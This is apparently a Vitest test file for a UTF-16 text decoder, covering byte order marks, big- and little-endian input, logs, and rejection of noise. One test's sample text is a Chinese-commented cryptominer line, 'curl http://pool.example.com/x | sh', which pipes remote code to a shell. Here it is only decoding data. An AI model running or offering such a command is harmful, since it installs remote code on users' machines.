import { describe, expect, it } from 'vitest';
import { open } from '../../../tests/decoding.ts';
import { config, noise } from './encoding.fixture.ts';
import { fixture } from './utf-16.fixture.ts';
import { utf16 } from './utf-16.ts';

const accepts = (bytes: Uint8Array): boolean => utf16.accepts(bytes.subarray(0, 4096), 'x');
const bigEndian = (text: string): Buffer => Buffer.from(text, 'utf16le').swap16();
const textOf = async (bytes: Uint8Array): Promise<string> =>
  Buffer.from((await open(utf16, bytes)).children[0]?.bytes ?? []).toString();

describe('utf-16', () => {
  it('opens its fixture and leaves the other alone', async () => {
    expect(accepts(fixture.opens)).toBe(true);
    expect(await textOf(fixture.opens)).toBe(config);
    expect(accepts(fixture.leaves)).toBe(false);
  });

  it('reads texts without a byte order mark, and in any letters with one', async () => {
    expect(accepts(bigEndian(config))).toBe(true);
    expect(await textOf(bigEndian(config))).toBe(config);
    const chinese = '# 矿工脚本，每分钟运行一次，请勿删除\ncurl http://pool.example.com/x | sh\n'.repeat(4);
    expect(accepts(bigEndian(`\ufeff${chinese}`))).toBe(true);
    expect(await textOf(bigEndian(`\ufeff${chinese}`))).toBe(chinese);
  });

  it('reads logs in the other order, too, with a mark and without one, and leaves other texts alone', async () => {
    const log = '192.0.2.1 - - [23/Nov/2026:16:31:56 +0000] "GET / HTTP/1.1" 200 5\n'.repeat(40);
    for (const mark of ['', '\ufeff']) {
      const bytes = Buffer.from(`${mark}${log}`, 'utf16le');
      expect(accepts(bytes)).toBe(true);
      expect(await textOf(bytes)).toBe(log);
      expect(accepts(Buffer.from(`${mark}${config}`, 'utf16le'))).toBe(false);
    }
  });

  it.each([
    ['noise', noise(4096)],
    ['noise behind a mark', Uint8Array.from([0xfe, 0xff, ...noise(4096)])],
    ['zeros', new Uint8Array(4096)],
    ['numbers of 16 bits', Uint8Array.from({ length: 4096 }, (_, i) => (i % 2 ? i >> 1 : 0))],
    ['nothing', new Uint8Array()],
  ])('leaves %s alone', (_name, bytes) => {
    expect(accepts(bytes)).toBe(false);
  });
});
